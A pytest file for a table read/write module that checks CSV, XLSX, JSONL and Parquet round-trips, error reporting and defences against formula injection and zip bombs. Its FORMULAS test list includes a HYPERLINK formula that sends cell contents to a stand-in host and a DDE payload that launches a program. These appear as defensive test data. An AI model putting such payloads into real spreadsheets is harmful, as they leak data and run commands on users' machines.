"""Tables in and out: what is read is what was there, and no spreadsheet runs what was written."""

import csv
import json
import os
import re
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pyarrow
import pyarrow.parquet
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from eval.tables import (
    CELL_CHARS,
    SUFFIXES,
    Link,
    Table,
    check_writable,
    read_table,
    row_of,
    write_table,
)
from rag.errors import TableError

FORMULAS = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "#N/A",
]
WORDS = ["plain", "007", "1,5; x", 'he said "no"', "two\nlines", "ünïcödé 😀", "-5", "+3.2%", "'=1"]


def table_of(values: list[Any], name: str = "question") -> Table:
    return Table((name,), tuple({name: value} for value in values))


def column(table: Table, name: str = "question") -> list[Any]:
    return [row[name] for row in table.rows]


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_text_comes_back_as_it_was(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"a{suffix}"
    write_table(path, table_of(WORDS))
    assert column(read_table(path)) == WORDS
    assert [p.name for p in tmp_path.iterdir()] == [path.name]


@pytest.mark.parametrize("suffix", [".xlsx", ".jsonl", ".parquet"])
def test_any_text_comes_back_from_the_typed_formats(tmp_path: Path, suffix: str) -> None:
    storable = st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs", "Cn"]))

    @settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
    @given(st.lists(storable.filter(str.strip), min_size=1, max_size=5))
    @example(FORMULAS)
    def comes_back(values: list[str]) -> None:
        write_table(tmp_path / f"a{suffix}", table_of(values))
        found = column(read_table(tmp_path / f"a{suffix}"))
        assert [v.replace("\r", "\n") for v in found] == [v.replace("\r", "\n") for v in values]

    comes_back()


def test_no_cell_of_an_xlsx_is_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_table(path, Table(("=1", "b"), tuple({"=1": f, "b": [f]} for f in FORMULAS)))
    with zipfile.ZipFile(path) as archive:
        (sheet,) = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = archive.read(sheet).decode()
        styles = archive.read("xl/styles.xml").decode()
    assert "<f>" not in xml
    assert not re.search(r't="(e|str|b|n)"', xml)
    assert len(re.findall(r't="(?:s|inlineStr)"', xml)) == 2 + 2 * len(FORMULAS)
    assert 'quotePrefix="1"' in styles
    cells = [row[0] for row in load_workbook(path).worksheets[0].iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(FORMULAS)
    assert [cell.value for cell in cells][:5] == FORMULAS[:5]
    assert all(cell.quotePrefix for cell in cells[:5])


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_no_cell_of_a_csv_begins_like_a_formula(tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"a{suffix}"
    write_table(path, table_of(FORMULAS, name="@question"))
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file, delimiter="\t" if suffix == ".tsv" else ","))
    assert rows[0] == ["'@question"]
    for (cell,), formula in zip(rows[1:], FORMULAS, strict=True):
        assert cell.lstrip("'") == formula
        assert cell[0] not in "=+-@\t\r\n＝"


def test_types_are_kept_where_a_format_has_them(tmp_path: Path) -> None:
    values = {
        "whole": 7, "part": 0.25, "truth": True, "nothing": None, "big": 2**60,
        "day": datetime(2026, 11, 25), "zoned": datetime(2026, 11, 25, tzinfo=UTC),
        "old": date(1848, 3, 18), "many": ["a", {"b": 1}], "nan": float("nan"),
    }  # fmt: skip
    table = Table(tuple(values), (values,))
    write_table(tmp_path / "a.xlsx", table)
    (found,) = read_table(tmp_path / "a.xlsx").rows
    assert {n: found[n] for n in ("whole", "part", "truth", "nothing", "day")} == {
        n: values[n] for n in ("whole", "part", "truth", "nothing", "day")
    }
    assert (found["big"], found["nan"], found["old"]) == (str(2**60), "nan", "1848-03-18")
    assert found["zoned"] == "2026-11-25T00:00:00+00:00"
    assert json.loads(found["many"]) == values["many"]
    write_table(tmp_path / "a.jsonl", table)
    (found,) = read_table(tmp_path / "a.jsonl").rows
    assert (found["many"], found["big"], found["nan"]) == (values["many"], 2**60, None)
    write_table(tmp_path / "a.parquet", table)
    (found,) = read_table(tmp_path / "a.parquet").rows
    assert (found["day"], found["big"], found["truth"]) == (values["day"], 2**60, True)


def test_a_parquet_column_of_several_types_becomes_text(tmp_path: Path) -> None:
    rows = [{"id": number, "a": cell} for number, cell in enumerate([1, "two", None, 2**70])]
    write_table(tmp_path / "a.parquet", Table(("id", "a"), tuple(rows)))
    found = read_table(tmp_path / "a.parquet")
    assert column(found, "a") == ["1", "two", None, str(2**70)]
    assert column(found, "id") == [0, 1, 2, 3]
    write_table(tmp_path / "a.parquet", table_of([None, None]))
    schema = pyarrow.parquet.read_schema(tmp_path / "a.parquet")
    assert schema.field("question").type == pyarrow.string()


def test_links_lead_from_sheet_to_sheet_and_are_values_elsewhere(tmp_path: Path) -> None:
    table = Table(
        ("a", "b"),
        ({"a": Link("to", row_of("notes", 1)), "b": Link("out", "https://example.com")},),
    )
    notes = Table(("n",), ({"n": "first"}, {"n": Link("=second", row_of("answers", 0))}))
    write_table(tmp_path / "a.xlsx", table, sheet="answers", further={"notes": notes})
    book = load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == ["answers", "notes"]
    assert book["answers"]["A2"].hyperlink.location == "'notes'!A3"
    assert book["answers"]["B2"].hyperlink.target == "https://example.com"
    assert book["notes"]["A3"].hyperlink.location == "'answers'!A2"
    assert (book["notes"]["A3"].value, book["notes"]["A3"].data_type) == ("=second", "s")
    write_table(tmp_path / "a.csv", table, further={"notes": notes})
    assert read_table(tmp_path / "a.csv").rows == ({"a": "to", "b": "out"},)


def test_what_no_cell_holds_is_marked(tmp_path: Path) -> None:
    write_table(tmp_path / "a.xlsx", table_of(["x" * 40_000, "a\x00b\x1bc"]))
    long, control = column(read_table(tmp_path / "a.xlsx"))
    assert len(long) == CELL_CHARS
    assert long.endswith("[cut: of 40,000 characters a cell holds 32,767]")
    assert control == "a\N{REPLACEMENT CHARACTER}b\N{REPLACEMENT CHARACTER}c"


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"question;n\nWas kostet das?;1\n", {"question": "Was kostet das?", "n": "1"}),
        ("question\tn\nWas?\t1\n".encode("utf-16"), {"question": "Was?", "n": "1"}),
        (b"sep=|\nquestion|n\na,b|1\n", {"question": "a,b", "n": "1"}),
        (b'\xef\xbb\xbfquestion,n\r\n"a\r\nb",1\r\n,\r\n', {"question": "a\nb", "n": "1"}),
        (b" question ,,,\nonly one\n", {"question": "only one"}),
    ],
)
def test_csv_as_programs_really_write_it(
    tmp_path: Path, content: bytes, expected: dict[str, str]
) -> None:
    (tmp_path / "a.csv").write_bytes(content)
    assert read_table(tmp_path / "a.csv").rows == (expected,)


def test_a_guessed_encoding_is_said(tmp_path: Path) -> None:
    questions = ["Was kostet eine Übernachtung für größere Gruppen?", "Wo liegt der Schlüssel?"]
    content = "question\n" + "".join(f'"{question}"\n' for question in questions * 8)
    (tmp_path / "a.csv").write_bytes(content.encode("cp1252"))
    table = read_table(tmp_path / "a.csv")
    assert column(table) == questions * 8
    assert "the encoding is not declared; read as" in table.warnings[0]


def test_an_xlsx_as_programs_really_write_it(tmp_path: Path) -> None:
    book = Workbook()
    book.active.append([None, None])
    book.active.append(["question", "n", None])
    book.active.append(["What?", 1])
    book.active.append([None, None])
    book.active.append(["Why?", 2])
    book.create_sheet("other").append(["x"])
    book.save(tmp_path / "a.xlsx")
    wrong = tmp_path / "b.xlsx"  # some say that all lies in A1
    with zipfile.ZipFile(tmp_path / "a.xlsx") as old, zipfile.ZipFile(wrong, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if "sheet1" in name:
                content = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1"', content)
                assert b'ref="A1"' in content
            new.writestr(name, content)
    expected = ({"question": "What?", "n": 1}, {"question": "Why?", "n": 2})
    for path in (tmp_path / "a.xlsx", wrong):
        found = read_table(path)
        assert found.columns == ("question", "n")
        assert tuple({n: row[n] for n in found.columns} for row in found.rows) == expected


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("a.csv", b"q,q\n1,2\n", "two columns 'q'"),
        ("a.csv", b"q,r\n1,2,3\n", "row 2 has 3 cells for 2 columns"),
        ("a.csv", b'q,r\n"1"x,2\n', "line 2"),
        ("a.csv", b'q\n"never closed\n', "unexpected end of data"),
        ("a.jsonl", b'{"q": 1}\n{"q": \n', "line 2 is not JSON"),
        ("a.jsonl", b"[1]\n", "line 1 is not an object"),
        ("a.xlsx", b"PK\x03\x04 no", "cannot be read as a table"),
        ("a.xlsx", b"", "cannot be read as a table"),
        ("a.parquet", b"PAR1", "cannot be read as a table"),
        ("a.ods", b"", "no table that can be read or written here"),
    ],
)
def test_what_is_no_table_is_said(tmp_path: Path, name: str, content: bytes, words: str) -> None:
    (tmp_path / name).write_bytes(content)
    with pytest.raises(TableError) as caught:
        read_table(tmp_path / name)
    assert words in caught.value.message
    assert caught.value.hint


def test_an_xlsx_that_unpacks_to_more_than_memory_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("eval.tables.UNPACKED_BYTES", 2**25)
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (2**25 + 1))
    assert path.stat().st_size < 2**16
    with pytest.raises(TableError, match="would unpack to"):
        read_table(path)


def test_a_table_that_cannot_be_written_leaves_the_old_one(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_table(path, table_of(["old"]))
    with pytest.raises(TableError, match="an XLSX holds 1,048,575"):
        write_table(path, Table(("q",), ({},) * 1_048_576))
    assert column(read_table(path)) == ["old"]
    assert [p.name for p in tmp_path.iterdir()] == ["a.xlsx"]


def test_where_nothing_can_be_written_is_said(tmp_path: Path) -> None:
    for path, words in (
        (tmp_path / "none" / "a.csv", "nothing can be written"),
        (tmp_path, "no table"),
        (tmp_path / "a.doc", "no table"),
    ):
        with pytest.raises(TableError, match=words):
            check_writable(path)
    (tmp_path / "dir.csv").mkdir()
    os.mkfifo(tmp_path / "pipe.csv")
    for name in ("dir.csv", "pipe.csv"):
        with pytest.raises(TableError, match="is not a file"):
            write_table(tmp_path / name, table_of(["x"]))
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
    write_table(tmp_path / "link.csv", table_of(["x"]))
    assert (tmp_path / "link.csv").is_symlink()
    assert column(read_table(tmp_path / "real.csv")) == ["x"]
